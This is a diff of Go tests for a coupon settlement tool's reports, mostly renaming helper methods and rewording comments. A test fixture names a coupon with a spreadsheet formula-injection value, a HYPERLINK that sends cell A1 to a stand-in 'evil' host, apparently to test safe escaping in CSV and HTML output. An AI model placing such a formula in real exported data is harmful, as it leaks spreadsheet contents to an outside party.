@@ -13,27 +13,27 @@ import (
 	"github.com/jajeong/jajeong/internal/report"
 )
 
-// finance makes two coupons, one of them with a name that would do harm, and settles two days.
+// finance adds two coupons, one of them with a hostile name, and settles two days.
 func finance(w *world) {
 	opens, closes := kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00")
-	first, second := w.couponBetween(2, opens, closes), w.couponBetween(500, opens, closes)
-	w.exec("UPDATE coupon SET discount_won = 1500000 WHERE id = ?", first)
-	w.exec("UPDATE coupon SET discount_won = 5000, name = ? WHERE id = ?", `=HYPERLINK("http://evil/?"&A1,"<b>당첨</b>")`, second)
-	w.users(between(1, 9)...)
-	w.exec("UPDATE `user` SET status = 'BLOCKED' WHERE id = 4")
-	w.stand(first, "1", kst("2025-11-20 10:00:00"))
-	w.stand(first, "4", kst("2025-11-20 10:00:01"))
-	w.stand(first, "2", kst("2025-11-20 23:59:59.999999"))
-	w.stand(first, "3", kst("2025-11-21 00:00:00"))
-	w.stand(second, "5", kst("2025-11-20 15:30:00"))
-	w.stand(second, "6", kst("2025-12-01 00:00:00"))
+	first, second := w.AddCouponBetween(2, opens, closes), w.AddCouponBetween(500, opens, closes)
+	w.Exec("UPDATE coupon SET discount_won = 1500000 WHERE id = ?", first)
+	w.Exec("UPDATE coupon SET discount_won = 5000, name = ? WHERE id = ?", `=HYPERLINK("http://evil/?"&A1,"<b>당첨</b>")`, second)
+	w.AddUsers(between(1, 9)...)
+	w.Exec("UPDATE `user` SET status = 'BLOCKED' WHERE id = 4")
+	w.ApplyAt(first, "1", kst("2025-11-20 10:00:00"))
+	w.ApplyAt(first, "4", kst("2025-11-20 10:00:01"))
+	w.ApplyAt(first, "2", kst("2025-11-20 23:59:59.999999"))
+	w.ApplyAt(first, "3", kst("2025-11-21 00:00:00"))
+	w.ApplyAt(second, "5", kst("2025-11-20 15:30:00"))
+	w.ApplyAt(second, "6", kst("2025-12-01 00:00:00"))
 	for _, date := range []string{"2025-11-20", "2025-11-21"} {
 		code, _, stderr := w.settle("run", "--date="+date, "--operator=kim", "--reason=test")
-		require.Zero(w.t, code, stderr)
+		require.Zero(w.T, code, stderr)
 	}
-	w.exec("UPDATE run_coupon SET duration_ms = 12")
-	require.NoError(w.t, w.rdb.HIncrBy(w.t.Context(), "state:{"+w.queue(second)+"}", "accepted", -3).Err()) // a gap below zero
-	w.exec("UPDATE promise SET accepted = 0 WHERE coupon_id = ?", second)
+	w.Exec("UPDATE run_coupon SET duration_ms = 12")
+	require.NoError(w.T, w.Redis.HIncrBy(w.T.Context(), "state:{"+w.Queue(second)+"}", "accepted", -3).Err()) // a gap below zero
+	w.Exec("UPDATE promise SET accepted = 0 WHERE coupon_id = ?", second)
 }
 
 func kst(text string) time.Time {
@@ -67,15 +67,15 @@ type reportJSON struct {
 }
 
 func (w *world) report(args ...string) (r reportJSON) {
-	w.t.Helper()
+	w.T.Helper()
 	code, stdout, stderr := w.settle(append([]string{"report", "--output=json"}, args...)...)
-	require.Zero(w.t, code, stderr)
-	require.NoError(w.t, json.Unmarshal([]byte(stdout), &r))
+	require.Zero(w.T, code, stderr)
+	require.NoError(w.T, json.Unmarshal([]byte(stdout), &r))
 	return r
 }
 
-// The figures are those of the applications, whatever the form, and neither a rerun nor a second look changes them.
-func TestReportFigures(t *testing.T) {
+// The figures are the same in every output, and another run does not change them.
+func TestReport_Figures(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	finance(w)
@@ -96,11 +96,11 @@ func TestReportFigures(t *testing.T) {
 	for _, output := range []string{"table", "csv", "json", "html"} {
 		before := page(output)
 		w.settleNow("--coupon=1")
-		require.Equal(t, before, page(output), "settling what is settled changes no figure")
+		require.Equal(t, before, page(output), "a repeated settlement changes no figure")
 	}
 }
 
-func TestReportGoesToAFileAsAWhole(t *testing.T) {
+func TestReport_ReplacesFileAtomically(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	finance(w)
@@ -119,17 +119,17 @@ func TestReportGoesToAFileAsAWhole(t *testing.T) {
 	require.Len(t, files, 1)
 }
 
-// While somebody holds a coupon's row, the others are reported, and every form says what is missing in it.
-func TestReportBesideACouponThatIsHeld(t *testing.T) {
+// A report without the locked coupon contains the others, and every output names the missing one.
+func TestReport_BesideLockedCoupon(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	opens, closes := kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00")
-	free, held := w.couponBetween(2, opens, closes), w.couponBetween(2, opens, closes)
-	w.exec("UPDATE coupon SET name = '=1+1' WHERE id = ?", held)
-	w.stand(free, "1", kst("2025-11-20 10:00:00"))
-	w.stand(held, "1", kst("2025-11-20 10:00:00"))
-	require.NoError(t, w.rdb.HIncrBy(t.Context(), "state:{"+w.queue(held)+"}", "accepted", 1).Err()) // a gap is looked at under the lock
-	tx, err := w.db.Begin()
+	free, held := w.AddCouponBetween(2, opens, closes), w.AddCouponBetween(2, opens, closes)
+	w.Exec("UPDATE coupon SET name = '=1+1' WHERE id = ?", held)
+	w.ApplyAt(free, "1", kst("2025-11-20 10:00:00"))
+	w.ApplyAt(held, "1", kst("2025-11-20 10:00:00"))
+	require.NoError(t, w.Redis.HIncrBy(t.Context(), "state:{"+w.Queue(held)+"}", "accepted", 1).Err()) // a gap is looked at under the lock
+	tx, err := w.DB.Begin()
 	require.NoError(t, err)
 	t.Cleanup(func() { _ = tx.Rollback() })
 	_, err = tx.Exec("SELECT id FROM coupon WHERE id = ? FOR UPDATE", held)
